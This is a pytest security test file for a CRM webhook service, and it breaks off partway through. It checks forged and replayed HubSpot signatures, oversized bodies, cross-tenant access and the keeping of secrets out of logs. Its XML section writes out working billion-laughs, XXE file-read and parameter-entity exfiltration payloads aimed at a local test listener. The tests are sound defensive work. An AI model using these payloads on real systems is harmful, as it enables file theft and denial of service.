"""Security under attack, on SQLite and PostgreSQL: forged and replayed HubSpot webhooks,
oversized bodies on every intake, XML bombs on the Salesforce endpoint, one connection's keys
against another's data, and secrets kept out of every log line.

Each refusal is checked for its status and for leaving nothing stored; each attack that would
cost time, memory, a file read or a network call is checked not to.
"""

from __future__ import annotations

import base64
import builtins
import json
import logging
import os
import socket
import subprocess
import sys
import time
import tracemalloc
from collections.abc import AsyncIterator, Callable, Iterator, MutableMapping
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import httpx
import pytest
import structlog
from dynamics_samples import DOCS_EXAMPLE
from sqlalchemy import select, update
from tenants import (
    ALPHA,
    ALPHA_SECRET,
    ALPHA_SEGMENT,
    BETA,
    accounts_of,
    alerts_of,
    bearer,
    new_key,
    two_tenants,
)

from connector.hubspot.events import signature_v1, signature_v3
from connector.segment import BATCH_MAX_BYTES, MESSAGE_MAX_BYTES
from signals.config import HealthConfig
from testkit import (
    HUBSPOT_SECRET,
    PUBLIC_URL,
    RECENCY_ONLY,
    Service,
    hubspot_event,
    native,
    post_hubspot,
    signed_v3_headers,
)
from webhooks.logging import configure_logging
from webhooks.sessions import COOKIE_NAME, CSRF_HEADER
from webhooks.store import configs
from webhooks.store.models import AlertDelivery, InboxEvent, WritebackItem

HUBSPOT_URI = f"{PUBLIC_URL}/webhooks/hubspot"
SF_CONNECTION = "acme-sf"
SF_ORG = "00D5e000000abcdEAA"
DYN_CONNECTION = "contoso"
DYN_TENANT = "7f3c1b2a-52f0-4a8e-9d59-1f2e3d4c5b6a"


async def inbox_rows(service: Service) -> list[InboxEvent]:
    async with service.runtime.sessions() as session:
        return list((await session.execute(select(InboxEvent))).scalars())


def _now() -> datetime:
    return datetime.now(UTC)


def basic(write_key: str) -> dict[str, str]:
    return {"Authorization": "Basic " + base64.b64encode(f"{write_key}:".encode()).decode()}


# --- HubSpot signatures ---------------------------------------------------------------------------


def _batch(*event_ids: int) -> bytes:
    return json.dumps([hubspot_event(event_id) for event_id in event_ids]).encode()


async def test_a_correctly_signed_hubspot_batch_is_stored(service: Service) -> None:
    """The control for the refusals below: the same request, untouched, is accepted."""
    response = await post_hubspot(service.client, [hubspot_event(1)])
    assert response.status_code == 202, response.text
    assert len(await inbox_rows(service)) == 1


def _tampered() -> tuple[bytes, dict[str, str]]:
    body = _batch(1)
    headers = signed_v3_headers(body, uri=HUBSPOT_URI)
    # One byte changed after signing: the event id 1 becomes 7.
    tampered = body.replace(b'"eventId": 1,', b'"eventId": 7,', 1)
    assert len(tampered) == len(body)
    assert sum(a != b for a, b in zip(tampered, body, strict=True)) == 1
    return tampered, headers


def _unsigned() -> tuple[bytes, dict[str, str]]:
    return _batch(1), {"Content-Type": "application/json"}


def _wrong_secret() -> tuple[bytes, dict[str, str]]:
    body = _batch(1)
    return body, signed_v3_headers(body, uri=HUBSPOT_URI, secret="someone-elses-secret")


def _signed_at(offset: timedelta) -> Callable[[], tuple[bytes, dict[str, str]]]:
    def make() -> tuple[bytes, dict[str, str]]:
        body = _batch(1)
        return body, signed_v3_headers(body, uri=HUBSPOT_URI, at=datetime.now(UTC) + offset)

    return make


def _timestamp(value: str) -> Callable[[], tuple[bytes, dict[str, str]]]:
    """Signed correctly over a timestamp that is not epoch milliseconds in range."""

    def make() -> tuple[bytes, dict[str, str]]:
        body = _batch(1)
        headers = signed_v3_headers(body, uri=HUBSPOT_URI)
        headers["X-HubSpot-Request-Timestamp"] = value
        headers["X-HubSpot-Signature-v3"] = signature_v3(
            HUBSPOT_SECRET, "POST", HUBSPOT_URI, body, value
        )
        return body, headers

    return make


def _stale_v3_with_a_valid_legacy_signature() -> tuple[bytes, dict[str, str]]:
    """A captured v3 request replayed late, with a legacy signature added: v3 wins."""
    body = _batch(1)
    headers = signed_v3_headers(body, uri=HUBSPOT_URI, at=datetime.now(UTC) - timedelta(hours=1))
    headers["X-HubSpot-Signature"] = signature_v1(HUBSPOT_SECRET, body)
    return body, headers


TOLERANCE = timedelta(seconds=300)  # CRM_HEALTH_WEBHOOK_TIMESTAMP_TOLERANCE_SECONDS default
FORGERIES: dict[str, Callable[[], tuple[bytes, dict[str, str]]]] = {
    "tampered-body": _tampered,
    "missing-signature": _unsigned,
    "wrong-secret": _wrong_secret,
    "stale-timestamp": _signed_at(-(TOLERANCE + timedelta(seconds=30))),
    "future-timestamp": _signed_at(TOLERANCE + timedelta(seconds=30)),
    "stale-v3-plus-valid-v1": _stale_v3_with_a_valid_legacy_signature,
    "timestamp-not-a-number": _timestamp("yesterday"),
    "timestamp-empty": _timestamp(""),
    "timestamp-negative": _timestamp("-1"),
    # Python's str.isdigit() is true for the superscript digits, int() refuses them.
    "timestamp-superscript-digit": _timestamp("\u00b2"),
    # int() refuses strings of more than 4,300 digits.
    "timestamp-5000-digits": _timestamp("9" * 5000),
}


@pytest.mark.parametrize("forge", FORGERIES.values(), ids=FORGERIES.keys())
async def test_forged_or_replayed_hubspot_webhook_is_401_and_stores_nothing(
    service: Service, forge: Callable[[], tuple[bytes, dict[str, str]]]
) -> None:
    assert service.runtime.settings.webhook_timestamp_tolerance_seconds == 300
    body, headers = forge()
    encoded = {name.encode(): value.encode("latin-1") for name, value in headers.items()}
    response = await service.client.post("/webhooks/hubspot", content=body, headers=encoded)
    assert response.status_code == 401, response.text
    assert await inbox_rows(service) == []


async def test_legacy_signature_is_401_once_legacy_signatures_are_off(service_factory) -> None:
    service = await service_factory(hubspot_accept_legacy_signatures=False)
    body = _batch(1)
    headers = {"Content-Type": "application/json"}
    headers["X-HubSpot-Signature"] = signature_v1(HUBSPOT_SECRET, body)
    response = await service.client.post("/webhooks/hubspot", content=body, headers=headers)
    assert response.status_code == 401
    assert await inbox_rows(service) == []


# --- oversized bodies ---------------------------------------------------------------------------

LIMIT = 8192
SF_SECRET = "sf-shared-secret-for-limits"
DYN_KEY = "dynamics-key-for-limits"
SEGMENT_KEY = "segment-key-for-limits"
ADMIN_TOKEN = "admin-token-for-limits-123"


def intake_settings(**overrides: object) -> dict[str, object]:
    values: dict[str, object] = {
        "webhook_max_body_bytes": LIMIT,
        "admin_token": ADMIN_TOKEN,
        "segment_write_key": SEGMENT_KEY,
        "salesforce_connection_name": SF_CONNECTION,
        "salesforce_organization_id": SF_ORG,
        "salesforce_login_url": "https://acme.my.salesforce.test",
        "salesforce_client_id": "3MVG9-consumer-key",
        "salesforce_client_secret": "sf-consumer-secret-for-limits",
        "salesforce_webhook_secret": SF_SECRET,
        "dynamics_connection_name": DYN_CONNECTION,
        "dynamics_org_url": "https://contoso.crm.dynamics.test",
        "dynamics_tenant_id": DYN_TENANT,
        "dynamics_client_id": "0b1c2d3e-4f50-6172-8394-a5b6c7d8e9f0",
        "dynamics_client_secret": "dynamics-client-secret-for-limits",
        "dynamics_publisher_prefix": "crmh",
        "dynamics_webhook_auth_value": DYN_KEY,
    }
    values.update(overrides)
    return values


@pytest.fixture
async def intake(service_factory) -> Service:
    service: Service = await service_factory(**intake_settings())
    return service


def outbound_message(
    *notification_ids: str, organization: str = SF_ORG, pad: int = 0, session: str | None = None
) -> bytes:
    notifications = "".join(
        f"<Notification><Id>{nid}</Id>"
        '<sObject xsi:type="sf:Account" xmlns:sf="urn:sobject.enterprise.soap.sforce.com">'
        f"<sf:Id>0015e00000AbCdEAAV</sf:Id><sf:Name>Acme{' ' * pad}</sf:Name>"
        "<sf:LastModifiedById>0055e000009OtherAAA</sf:LastModifiedById>"
        "</sObject></Notification>"
        for nid in notification_ids
    )
    return (
        '<?xml version="1.0" encoding="UTF-8"?>'
        '<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/" '
        'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"><soapenv:Body>'
        '<notifications xmlns="http://soap.sforce.com/2005/09/outbound">'
        f"<OrganizationId>{organization}</OrganizationId>"
        "<ActionId>04k5e000000TnTyAAK</ActionId>"
        + ("" if session is None else f"<SessionId>{session}</SessionId>")
        + f"{notifications}</notifications></soapenv:Body></soapenv:Envelope>"
    ).encode()


def _dynamics_body(pad: int = 0) -> bytes:
    document = json.loads(DOCS_EXAMPLE)
    document["OrganizationName"] += " " * pad
    return json.dumps(document).encode()


def _segment_batch(size: int) -> bytes:
    message = {"type": "track", "event": "Used", "userId": "u1", "properties": {"p": "x" * 1000}}
    count = size // 1000 + 1
    return json.dumps({"batch": [{**message, "messageId": f"m{i}"} for i in range(count)]}).encode()


# endpoint -> (path, headers, a valid body padded with n more bytes, that endpoint's limit)
INTAKES: dict[str, tuple[str, dict[str, str], Callable[[int], bytes], int]] = {
    "hubspot": (
        "/webhooks/hubspot",
        {},  # signed per body below
        lambda pad: json.dumps(
            [hubspot_event(1, propertyValue="x" * pad)], separators=(",", ":")
        ).encode(),
        LIMIT,
    ),
    "salesforce": (
        f"/webhooks/salesforce/{SF_CONNECTION}/{SF_SECRET}",
        {"Content-Type": "text/xml; charset=utf-8", "SOAPAction": '""'},
        lambda pad: outbound_message("04l5e000001", pad=pad),
        LIMIT,
    ),
    "dynamics": (
        f"/webhooks/dynamics/{DYN_CONNECTION}?code={DYN_KEY}",
        {"Content-Type": "application/json"},
        _dynamics_body,
        LIMIT,
    ),
    "segment-batch": (
        "/ingest/segment/v1/batch",
        {**basic(SEGMENT_KEY), "Content-Type": "application/json"},
        _segment_batch,
        BATCH_MAX_BYTES,
    ),
    "segment-track": (
        "/ingest/segment/v1/track",
        {**basic(SEGMENT_KEY), "Content-Type": "application/json"},
        lambda pad: json.dumps(
            {"type": "track", "event": "Used", "userId": "u1", "properties": {"p": "x" * pad}}
        ).encode(),
        MESSAGE_MAX_BYTES,
    ),
    "native": (
        "/ingest/events",
        {**bearer(ADMIN_TOKEN), "Content-Type": "application/json"},
        lambda pad: json.dumps(
            {"events": [native("usage", "1001", user="u1", feature="x" * pad)]}
        ).encode(),
        LIMIT,
    ),
}


def _headers_for(name: str, body: bytes) -> dict[str, str]:
    _, headers, _, _ = INTAKES[name]
    if name == "hubspot":
        return signed_v3_headers(body, uri=HUBSPOT_URI)
    return headers


@pytest.mark.parametrize("name", INTAKES)
async def test_a_body_just_under_the_limit_is_accepted(intake: Service, name: str) -> None:
    """The control: the limit refuses size, not the request."""
    path, _, make, limit = INTAKES[name]
    body = make(0)
    assert len(body) < limit
    response = await intake.client.post(path, content=body, headers=_headers_for(name, body))
    assert response.status_code in {200, 202}, response.text
    assert len(await inbox_rows(intake)) >= 1


@pytest.mark.parametrize("name", INTAKES)
async def test_oversized_body_is_413_and_stores_nothing(intake: Service, name: str) -> None:
    path, _, make, limit = INTAKES[name]
    body = make(limit)
    assert len(body) > limit
    response = await intake.client.post(path, content=body, headers=_headers_for(name, body))
    assert response.status_code == 413, response.text
    assert await inbox_rows(intake) == []


class Stream:
    """A request body that counts how much of it the server pulled."""

    def __init__(self, *, chunks: int, chunk: bytes = b"x" * 1024) -> None:
        self.left = chunks
        self.chunk = chunk
        self.pulled = 0

    async def __aiter__(self) -> AsyncIterator[bytes]:
        while self.left:
            self.left -= 1
            self.pulled += 1
            yield self.chunk


@pytest.mark.parametrize("name", INTAKES)
async def test_declared_content_length_over_the_limit_is_413_without_reading_the_body(
    intake: Service, name: str
) -> None:
    path, headers, _, limit = INTAKES[name]
    if name == "hubspot":
        headers = {"Content-Type": "application/json"}
    stream = Stream(chunks=limit // 1024 + 2)
    response = await intake.client.post(
        path, content=stream, headers={**headers, "Content-Length": str(limit + 1)}
    )
    assert response.status_code == 413, response.text
    assert stream.pulled == 0
    assert await inbox_rows(intake) == []


@pytest.mark.parametrize("name", INTAKES)
async def test_chunked_body_over_the_limit_is_413_and_read_no_further(
    intake: Service, name: str
) -> None:
    """No Content-Length (chunked): the reading stops at the limit, not at the end."""
    path, headers, _, limit = INTAKES[name]
    if name == "hubspot":
        headers = {"Content-Type": "application/json"}
    stream = Stream(chunks=limit // 1024 + 1000)
    response = await intake.client.post(path, content=stream, headers=headers)
    assert response.status_code == 413, response.text
    assert stream.pulled <= limit // 1024 + 2
    assert await inbox_rows(intake) == []


# --- XML bombs --------------------------------------------------------------------------------


@pytest.fixture
def listener() -> Iterator[socket.socket]:
    """A local TCP port an external entity would be fetched from: nothing may connect."""
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen(8)
    server.setblocking(False)
    yield server
    server.close()


def _connected(server: socket.socket) -> bool:
    try:
        connection, _ = server.accept()
    except BlockingIOError:
        return False
    connection.close()
    return True


ENVELOPE_HEAD = (
    '<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/"><soapenv:Body>'
    '<notifications xmlns="http://soap.sforce.com/2005/09/outbound">'
)
ENVELOPE_TAIL = "</notifications></soapenv:Body></soapenv:Envelope>"


def _with_doctype(doctype: str, organization: str) -> bytes:
    return (
        f'<?xml version="1.0"?>\n{doctype}\n{ENVELOPE_HEAD}'
        f"<OrganizationId>{organization}</OrganizationId><ActionId>04k5e000000TnTyAAK</ActionId>"
        f"<Notification><Id>04l5e000001</Id><sObject>"
        f"<Id>0015e00000AbCdEAAV</Id></sObject></Notification>{ENVELOPE_TAIL}"
    ).encode()


def _bombs(secret_file: Path, port: int) -> dict[str, bytes]:
    laughs = ['<!ENTITY lol0 "lol">'] + [
        f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10)
    ]
    blob = "a" * 50_000
    return {
        "billion-laughs": _with_doctype(f"<!DOCTYPE lolz [{''.join(laughs)}]>", "&lol9;"),
        "quadratic-blowup": _with_doctype(f'<!DOCTYPE q [<!ENTITY a "{blob}">]>', "&a;" * 10_000),
        "xxe-file": _with_doctype(
            f'<!DOCTYPE x [<!ENTITY xxe SYSTEM "file://{secret_file}">]>', "&xxe;"
        ),
        "xxe-network": _with_doctype(
            f'<!DOCTYPE x [<!ENTITY xxe SYSTEM "http://127.0.0.1:{port}/leak">]>', "&xxe;"
        ),
        "external-dtd": _with_doctype(
            f'<!DOCTYPE x SYSTEM "http://127.0.0.1:{port}/evil.dtd">', SF_ORG
        ),
        "parameter-entity-network": _with_doctype(
            f'<!DOCTYPE x [<!ENTITY % remote SYSTEM "http://127.0.0.1:{port}/p.dtd"> %remote;]>',
            SF_ORG,
        ),
        "parameter-entity-file": _with_doctype(
            f'<!DOCTYPE x [<!ENTITY % file SYSTEM "file://{secret_file}">'
            f"<!ENTITY % wrap \"<!ENTITY &#x25; send SYSTEM 'http://127.0.0.1:{port}/?%file;'>\">"
            "%wrap; %send;]>",
            SF_ORG,
        ),
        "internal-parameter-entity": _with_doctype(
            "<!DOCTYPE x [<!ENTITY % decl \"<!ENTITY inner 'x'>\"> %decl;]>", "&inner;"
        ),
    }


BOMBS = list(_bombs(Path("/x"), 1))
SECRET_MARKER = "root-secret-marker-1c9d"


@pytest.fixture
async def salesforce(service_factory) -> Service:
    """The default body limit (1 MiB), as in production: every bomb is under it."""
    service: Service = await service_factory(**intake_settings(webhook_max_body_bytes=1 << 20))
    return service


@pytest.mark.parametrize("bomb", BOMBS)
async def test_xml_bomb_is_a_400_fault_that_reads_no_file_and_calls_no_network(
    salesforce: Service, bomb: str, tmp_path: Path, listener: socket.socket, monkeypatch
) -> None:
    secret_file = tmp_path / "secret.txt"
    secret_file.write_text(SECRET_MARKER)
    body = _bombs(secret_file, listener.getsockname()[1])[bomb]
    assert len(body) < 1 << 20
    opened: list[str] = []
    real_open = builtins.open

    def watching_open(file: Any, *args: Any, **kwargs: Any) -> Any:
        opened.append(str(file))
        return real_open(file, *args, **kwargs)

    path = f"/webhooks/salesforce/{SF_CONNECTION}/{SF_SECRET}"
    headers = {"Content-Type": "text/xml; charset=utf-8", "SOAPAction": '""'}
    service = salesforce
    monkeypatch.setattr(builtins, "open", watching_open)
    tracemalloc.start()
    started = time.perf_counter()
    try:
        response = await service.client.post(path, content=body, headers=headers)
        elapsed = time.perf_counter() - started
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
        monkeypatch.undo()
    assert response.status_code == 400, response.text
    assert b"soapenv:Fault" in response.content
    assert SECRET_MARKER.encode() not in response.content
    assert b"lollollol" not in response.content
    assert str(secret_file) not in opened
    assert not _connected(listener)
    assert elapsed < 2.0
    assert peak < 16 * 1024 * 1024, f"{peak} bytes at peak"
    assert await inbox_rows(service) == []


# --- one connection's keys against another's data ----------------------------------------------


@pytest.fixture
async def tenants(service_factory, tmp_path: Path) -> Service:
    return await two_tenants(service_factory, tmp_path)


@pytest.mark.parametrize("role", ["viewer", "admin"])
async def test_a_key_reads_only_its_own_connections_accounts(tenants: Service, role: str) -> None:
    headers = bearer(await new_key(tenants, role=role, connection=ALPHA))
    listed = await tenants.client.get("/api/v1/accounts", headers=headers)
    assert listed.status_code == 200
    assert sorted(item["name"] for item in listed.json()["items"]) == [
        "Alpha Only",
        "Alpha Shared",
    ]
    for params in ({"q": "Beta"}, {"q": "Only", "band": "healthy,neutral,at_risk,unknown"}):
        filtered = await tenants.client.get("/api/v1/accounts", params=params, headers=headers)
        assert "Beta" not in filtered.text
    assert (await tenants.client.get("/api/v1/accounts/777", headers=headers)).status_code == 404
    shared = await tenants.client.get("/api/v1/accounts/501", headers=headers)
    assert shared.json()["name"] == "Alpha Shared"
    history = await tenants.client.get("/api/v1/accounts/777/alerts", headers=headers)
    assert history.status_code == 404
    other = await tenants.client.get(
        "/api/v1/ingest/unmatched", params={"connection": BETA}, headers=headers
    )
    assert other.status_code == 403


async def test_an_admin_key_cannot_read_or_change_another_connections_alerts(
    tenants: Service,
) -> None:
    headers = bearer(await new_key(tenants, role="admin", connection=ALPHA))
    listed = await tenants.client.get("/api/v1/alerts", headers=headers)
    assert {item["account"]["id"] for item in listed.json()["items"]} == {"501", "601"}
    assert "Beta" not in listed.text
    for alert in await alerts_of(tenants, BETA):
        base = f"/api/v1/alerts/{alert.id}"
        assert (await tenants.client.get(base, headers=headers)).status_code == 404
        for action, body in (
            ("acknowledge", {"note": "mine now"}),
            ("snooze", {"hours": 24}),
            ("retry", None),
        ):
            response = await tenants.client.post(f"{base}/{action}", json=body, headers=headers)
            assert response.status_code == 404, (action, response.text)
    after = await alerts_of(tenants, BETA)
    assert [(a.status, a.acknowledged_at, a.snoozed_until) for a in after] == [
        ("open", None, None)
    ] * 2


async def test_a_preview_sees_only_the_keys_connection(tenants: Service) -> None:
    headers = bearer(await new_key(tenants, role="viewer", connection=ALPHA))
    response = await tenants.client.post(
        "/api/v1/config/preview", json={"config": RECENCY_ONLY}, headers=headers
    )
    assert response.status_code == 200, response.text
    assert response.json()["accounts"] == 2
    assert "Beta" not in response.text


async def test_an_event_cannot_name_another_connection(tenants: Service) -> None:
    key = await new_key(tenants, role="ingest", connection=ALPHA)
    event = {**native("usage", "777", user="intruder"), "connection": BETA}
    response = await tenants.client.post(
        "/ingest/events", json={"events": [event]}, headers=bearer(key)
    )
    assert response.status_code == 422
    assert "events[0].connection" in response.text
    assert len(await inbox_rows(tenants)) == 8  # the fixture's, all processed


async def test_an_ingest_key_files_events_only_under_its_own_connection(
    tenants: Service,
) -> None:
    """Record ids of the other connection (777 is only beta's, 501 is in both) change only
    the key's own connection."""
    before = await accounts_of(tenants, BETA)
    rows_before = len(await inbox_rows(tenants))
    key = await new_key(tenants, role="ingest", connection=ALPHA)
    events = [
        native("account", "777", attributes={"name": "Hijacked"}, id="x-1"),
        native("account", "501", attributes={"name": "Hijacked too"}, id="x-2"),
    ]
    response = await tenants.client.post(
        "/ingest/events", json={"events": events}, headers=bearer(key)
    )
    assert response.status_code == 202, response.text
    new_rows = (await inbox_rows(tenants))[rows_before:]
    assert [row.connection for row in new_rows] == [ALPHA, ALPHA]
    await tenants.runtime.pipeline.process_inbox()
    assert await accounts_of(tenants, BETA) == before
    after = await accounts_of(tenants, ALPHA)
    # 777 is no record of alpha's CRM: its event waits as unmatched, creating nothing.
    assert "777" not in after
    assert after["501"] == "Hijacked too"


async def test_a_segment_write_key_files_events_only_under_its_own_connection(
    tenants: Service,
) -> None:
    rows_before = len(await inbox_rows(tenants))
    body = {"type": "track", "event": "Used", "userId": "u1", "messageId": "s-1"}
    response = await tenants.client.post(
        "/ingest/segment/v1/track", json=body, headers=basic(ALPHA_SEGMENT)
    )
    assert response.status_code == 200, response.text
    [row] = (await inbox_rows(tenants))[rows_before:]
    assert row.connection == ALPHA


async def test_one_apps_signature_cannot_file_events_into_another_apps_portal(
    tenants: Service,
) -> None:
    """Alpha's app signs an event of beta's portal: refused, nothing filed anywhere."""
    rows_before = len(await inbox_rows(tenants))
    event = hubspot_event(9001, portalId=222)
    response = await post_hubspot(tenants.client, [event], secret=ALPHA_SECRET)
    assert response.status_code == 401, response.text
    assert len(await inbox_rows(tenants)) == rows_before


async def test_an_admin_page_session_is_scoped_like_its_key(tenants: Service) -> None:
    """Signed in with alpha's admin key, the page's requests (the session cookie, no key)
    see and change only alpha's data."""
    response = await tenants.client.post(
        "/api/v1/session", json={"key": await new_key(tenants, role="admin", connection=ALPHA)}
    )
    assert response.status_code == 200, response.text
    assert response.json()["connection"] == ALPHA
    csrf = {CSRF_HEADER: response.json()["csrf_token"]}
    assert COOKIE_NAME in tenants.client.cookies  # the client sends it from now on
    listed = await tenants.client.get("/api/v1/accounts")
    assert listed.status_code == 200
    assert sorted(item["id"] for item in listed.json()["items"]) == ["501", "601"]
    assert (await tenants.client.get("/api/v1/accounts/777")).status_code == 404
    for alert in await alerts_of(tenants, BETA):
        acknowledged = await tenants.client.post(
            f"/api/v1/alerts/{alert.id}/acknowledge", json={}, headers=csrf
        )
        assert acknowledged.status_code == 404
    assert {a.status for a in await alerts_of(tenants, BETA)} == {"open"}


# --- secrets never logged ---------------------------------------------------------------------

SECRETS = {
    "hubspot_client_secret": "HSCLIENTSECRET-5f1e",
    "hubspot_access_token": "pat-na1-HSACCESSTOKEN-9a2b",
    "salesforce_client_secret": "SFCLIENTSECRET-77c3",
    "salesforce_webhook_secret": "SFWEBHOOKSECRET-1d0e",
    "dynamics_client_secret": "DYNCLIENTSECRET-4b8a",
    "dynamics_webhook_auth_value": "DYNWEBHOOKKEY-e6f0",
    "segment_write_key": "SEGMENTWRITEKEY-2c9d",
    "admin_token": "ADMINTOKEN-8e4f-0123456789",
    "smtp_password": "SMTPPASSWORD-3a7b",
    "session_secret": "SESSIONSECRET-0f5c-0123456789abcdef",
    "encryption_key": "ENCRYPTIONPASSPHRASE-6d1a-0123456789abcdef",
}
# A live API session Salesforce puts in each Outbound Message: never kept, never logged.
SF_SESSION = "00D5e000000abcd!SFSESSIONID-AQ0AQ7e"
SLACK_SECRET = "SLACKPATHSECRET-91ab"
TEAMS_SECRET = "TEAMSSIGSECRET-c2d3"
WEBHOOK_BYTES = b"WEBHOOKSIGNINGSECRET-0123456789ab"
WEBHOOK_SECRET = "whsec_" + base64.b64encode(WEBHOOK_BYTES).decode()
# Every way a secret could be written: as configured, and as it travels (HTTP Basic, base64).
ALL_SECRETS = [
    *SECRETS.values(),
    SF_SESSION,
    SLACK_SECRET,
    TEAMS_SECRET,
    WEBHOOK_SECRET,
    base64.b64encode(WEBHOOK_BYTES).decode(),
    base64.b64encode(f"{SECRETS['segment_write_key']}:".encode()).decode(),
    base64.b64encode(SECRETS["smtp_password"].encode()).decode(),
]


def _channels_file(tmp_path: Path, hook_url: str) -> Path:
    path = tmp_path / "channels.yaml"
    path.write_text(
        "channels:\n"
        "  - name: ops-slack\n    type: slack\n    url: ${LEAK_SLACK_URL}\n"
        "  - name: ops-teams\n    type: teams\n    url: ${LEAK_TEAMS_URL}\n"
        f"  - name: ops-hook\n    type: webhook\n    url: {hook_url}\n"
        "    secret: ${LEAK_WEBHOOK_SECRET}\n"
        "  - name: ops-mail\n    type: email\n    to: [ops@example.com]\n"
    )
    return path


def _leak_env(monkeypatch) -> None:
    monkeypatch.setenv("LEAK_SLACK_URL", f"https://hooks.slack.test/services/T0/B0/{SLACK_SECRET}")
    monkeypatch.setenv(
        "LEAK_TEAMS_URL", f"https://teams.flow.test/workflows/1/invoke?sig={TEAMS_SECRET}"
    )
    monkeypatch.setenv("LEAK_WEBHOOK_SECRET", WEBHOOK_SECRET)


def _closed_port() -> int:
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        return int(probe.getsockname()[1])


def _secret_settings(tmp_path: Path, *, crm: str, org_url: str, hook_url: str) -> dict[str, object]:
    """Every source and channel configured with the distinctive secrets; every CRM and channel
    call fails (`crm`, `org_url` and `hook_url` answer nothing useful)."""
    return {
        **SECRETS,
        "hubspot_api_base": crm,
        "salesforce_connection_name": SF_CONNECTION,
        "salesforce_organization_id": SF_ORG,
        "salesforce_login_url": crm,
        "salesforce_client_id": "3MVG9-consumer-key",
        "dynamics_connection_name": DYN_CONNECTION,
        "dynamics_org_url": org_url,
        "dynamics_tenant_id": DYN_TENANT,
        "dynamics_client_id": "0b1c2d3e-4f50-6172-8394-a5b6c7d8e9f0",
        "dynamics_authority": crm,
        "dynamics_publisher_prefix": "crmh",
        "hubspot_client_id": "hubspot-app-client-id",
        "alert_channels_file": _channels_file(tmp_path, hook_url),
        "smtp_host": "127.0.0.1",
        "smtp_port": _closed_port(),
        "smtp_security": "none",
        "smtp_username": "alerts",
        "smtp_from_address": "health@example.com",
        "crm_retry_max_attempts": 1,
    }


def _failing_crm(request: httpx.Request) -> httpx.Response:
    """Every CRM and channel refuses. The CRMs as they do (token endpoints 401, the rest 500);
    the chat channels echo the URL they were called on (a proxy's error page does), the signed
    webhook's receiver is down."""
    host = request.url.host
    if host == "receiver.test":
        raise httpx.ConnectError("connection refused", request=request)
    if host in {"hooks.slack.test", "teams.flow.test"}:
        status = 500 if host == "hooks.slack.test" else 404
        return httpx.Response(status, text=f"no route for POST {request.url}")
    if request.url.path.endswith("/token"):
        return httpx.Response(401, json={"error": "invalid_client"})
    return httpx.Response(500, json={"status": "error", "message": "internal error"})


class Tee:
    """A structlog processor keeping each event as the app logged it, then passing it on to
    the configured renderer (what structlog.testing.capture_logs keeps, without dropping it)."""

    def __init__(self, level: str) -> None:
        self.level = level
        self.events: list[dict[str, Any]] = []

    def __call__(
        self, logger: Any, method: str, event: MutableMapping[str, Any]
    ) -> MutableMapping[str, Any]:
        self.events.append(dict(event))
        return event


@pytest.fixture
def captured_logs(request: pytest.FixtureRequest) -> Iterator[Tee]:
    """The service's own logging set-up (JSON lines on stderr, as `serve` configures it) at the
    level the test names, with every structlog event also kept as it was logged; put back
    afterwards."""
    saved = structlog.get_config()
    root = logging.getLogger()
    handlers, level = list(root.handlers), root.level
    levels = {name: logging.getLogger(name).level for name in ("httpx", "uvicorn.access")}
    configure_logging(level=request.param, fmt="json")
    tee = Tee(request.param)
    processors = list(structlog.get_config()["processors"])
    structlog.configure(processors=[*processors[:-1], tee, processors[-1]])
    yield tee
    structlog.configure(**saved)
    root.handlers[:] = handlers
    root.setLevel(level)
    for name, value in levels.items():
        logging.getLogger(name).setLevel(value)


async def _exercise(service: Service) -> None:
    """Webhooks accepted and refused, sign-ins, then the worker: CRM calls, token requests,
    write-backs and alert deliveries that all fail."""
    client = service.client
    accepted = await post_hubspot(
        client, [hubspot_event(1)], secret=SECRETS["hubspot_client_secret"]
    )
    assert accepted.status_code == 202, accepted.text
    await post_hubspot(client, [hubspot_event(2)], secret="not-the-secret")
    sf_secret = SECRETS["salesforce_webhook_secret"]
    sf_headers = {"Content-Type": "text/xml; charset=utf-8", "SOAPAction": '""'}
    ok = await client.post(
        f"/webhooks/salesforce/{SF_CONNECTION}/{sf_secret}",
        content=outbound_message("04l5e000001", session=SF_SESSION),
        headers=sf_headers,
    )
    assert ok.status_code == 200, ok.text
    await client.post(
        f"/webhooks/salesforce/{SF_CONNECTION}",
        content=outbound_message("04l5e000002"),
        headers={**sf_headers, "X-CRM-Health-Secret": sf_secret},
    )
    await client.post(
        f"/webhooks/salesforce/{SF_CONNECTION}/{sf_secret}x",
        content=outbound_message("04l5e000003"),
        headers=sf_headers,
    )
    await client.post(f"/webhooks/salesforce/{SF_CONNECTION}/{sf_secret}", content=b"<bad")
    dyn_key = SECRETS["dynamics_webhook_auth_value"]
    ok = await client.post(
        f"/webhooks/dynamics/{DYN_CONNECTION}?code={dyn_key}", content=DOCS_EXAMPLE
    )
    assert ok.status_code == 202, ok.text
    await client.post(f"/webhooks/dynamics/{DYN_CONNECTION}?code={dyn_key}x", content=DOCS_EXAMPLE)
    await client.post(f"/webhooks/dynamics/{DYN_CONNECTION}?code={dyn_key}", content=b"{")
    segment_key = SECRETS["segment_write_key"]
    track = {"type": "track", "event": "Used", "userId": "u1", "messageId": "s-1"}
    ok = await client.post("/ingest/segment/v1/track", json=track, headers=basic(segment_key))
    assert ok.status_code == 200, ok.text
    await client.post("/ingest/segment/v1/track", json=track, headers=basic(segment_key + "x"))
    await client.post(
        "/ingest/segment/v1/track", json={**track, "writeKey": segment_key}, headers={}
    )
    admin = bearer(SECRETS["admin_token"])
    events = {"events": [native("usage", "1001", user="u1", days_ago=90)]}
    ok = await client.post("/ingest/events", json=events, headers=admin)
    assert ok.status_code == 202, ok.text
    await client.post("/ingest/events", json={"events": [{"type": "nope"}]}, headers=admin)
    await client.post("/ingest/events", json=events, headers=bearer(SECRETS["admin_token"] + "x"))
    assert (await client.post("/api/v1/session", json={"key": SECRETS["admin_token"]})).is_success
    await client.post("/api/v1/session", json={"key": SECRETS["admin_token"] + "x"})
    await client.get("/api/v1/accounts", headers={"Authorization": SECRETS["admin_token"]})
    await client.get("/oauth/hubspot/install")
    await client.get("/oauth/hubspot/callback", params={"code": "c", "state": "forged"})
    # The worker: alerts on every channel for an account at risk, CRM reads and write-backs.
    config = {
        **RECENCY_ONLY,
        "alerts": [
            {
                "name": "entered-at-risk",
